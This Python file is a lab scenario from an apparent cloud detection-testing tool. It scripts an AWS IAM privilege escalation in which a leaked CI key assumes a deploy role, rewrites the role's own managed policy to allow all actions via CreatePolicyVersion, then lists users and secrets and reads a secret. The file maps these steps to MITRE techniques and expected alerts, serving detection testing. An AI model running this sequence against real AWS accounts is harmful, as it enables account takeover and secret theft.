"""privilege-escalation: a principal rewrites its own managed policy to ``*:*``.

``deploy-permissions`` (attached to the ``ci-deploy`` role) allows ``iam:CreatePolicyVersion`` on
itself. With the leaked ci-deployer key, from ``ATTACKER_IP``, the attacker assumes ``ci-deploy``,
reads the policy, creates a new default version allowing everything (deleting the oldest version
first when the five-version limit is reached), then uses rights it did not have: listing users and
secrets, and reading a secret.
"""

from __future__ import annotations

import json

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext

ESCALATED = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
MAX_VERSIONS = 5


def run(ctx: ScenarioContext) -> None:
    prod = ctx.account("prod")
    user = ctx.actor(f"prod/{org.USER_CI}", source_ip=org.ATTACKER_IP, user_agent=org.ATTACKER_USER_AGENT)
    user.client("sts").get_caller_identity()
    role = user.assume_role(f"arn:aws:iam::{prod}:role/{org.ROLE_CI_DEPLOY}", "debug")
    iam = role.client("iam")
    policy_arn = ctx.resource(f"prod/policy/{org.POLICY_DEPLOY}") or f"arn:aws:iam::{prod}:policy/{org.POLICY_DEPLOY}"
    iam.list_attached_role_policies(RoleName=org.ROLE_CI_DEPLOY)
    policy = iam.get_policy(PolicyArn=policy_arn)["Policy"]
    iam.get_policy_version(PolicyArn=policy_arn, VersionId=policy["DefaultVersionId"])
    versions = iam.list_policy_versions(PolicyArn=policy_arn)["Versions"]
    if len(versions) >= MAX_VERSIONS:
        oldest = min((v for v in versions if not v["IsDefaultVersion"]), key=lambda v: v["CreateDate"])
        iam.delete_policy_version(PolicyArn=policy_arn, VersionId=oldest["VersionId"])
    iam.create_policy_version(PolicyArn=policy_arn, PolicyDocument=json.dumps(ESCALATED), SetAsDefault=True)

    # The new rights, used.
    iam.list_users()
    iam.list_roles()
    secretsmanager = role.client("secretsmanager")
    listed = secretsmanager.list_secrets().get("SecretList", [])
    if listed:
        secretsmanager.get_secret_value(SecretId=listed[0]["ARN"])


SCENARIO = Scenario(
    name="privilege-escalation",
    title="CreatePolicyVersion makes a role's own policy allow everything",
    description=(
        f"prod/{org.USER_CI}'s key from {org.ATTACKER_IP}: GetCallerIdentity, AssumeRole {org.ROLE_CI_DEPLOY}; as the "
        f"role: ListAttachedRolePolicies, GetPolicy and GetPolicyVersion of {org.POLICY_DEPLOY}, ListPolicyVersions "
        "(DeletePolicyVersion of the oldest when five exist), CreatePolicyVersion with Action \"*\" Resource \"*\" "
        "and SetAsDefault; then ListUsers, ListRoles, ListSecrets and GetSecretValue of the first secret."
    ),
    mitre=("T1098.003", "T1078.004", "T1548"),
    finding_types=(
        "PrivilegeEscalation:IAMUser/AnomalousBehavior",
        "Persistence:IAMUser/AnomalousBehavior",
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
    ),
    run=run,
)
